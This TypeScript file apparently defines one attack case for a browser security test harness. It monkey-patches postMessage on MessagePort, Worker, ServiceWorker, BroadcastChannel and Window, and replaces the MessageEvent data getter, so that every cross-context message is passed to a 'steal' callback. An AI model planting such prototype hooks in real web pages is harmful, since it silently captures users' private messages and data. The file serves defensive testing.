import { attack } from "../attack.js";

export default attack({
  name: "hooks MessagePort, Worker and MessageEvent",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const { prototype } of [MessagePort, Worker, ServiceWorker, BroadcastChannel, Window] as {
      prototype: { postMessage?: (...args: unknown[]) => void };
    }[]) {
      const { postMessage } = prototype;
      if (!postMessage) continue;
      prototype.postMessage = function (...args) {
        it.steal(args[0]);
        return postMessage.apply(this, args);
      };
    }
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
    if (!data?.get) return;
    const { get } = data;
    Object.defineProperty(MessageEvent.prototype, "data", {
      ...data,
      get() {
        const value: unknown = get.call(this);
        it.steal(value);
        return value;
      },
    });
  },
});
